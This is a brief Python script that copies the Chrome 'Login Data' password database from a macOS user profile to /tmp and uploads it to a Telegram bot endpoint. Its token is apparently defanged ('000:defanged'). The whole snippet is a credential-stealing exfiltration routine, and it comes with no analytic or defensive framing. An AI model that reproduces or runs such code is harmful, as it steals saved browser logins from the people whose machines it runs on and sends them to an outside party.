import shutil, requests, os
p = os.path.expanduser('~/Library/Application Support/Google/Chrome/Default/Login Data')
shutil.copy(p, '/tmp/ld')
requests.post('https://api.telegram.org/bot000:defanged/sendDocument', files={'document': open('/tmp/ld','rb')})
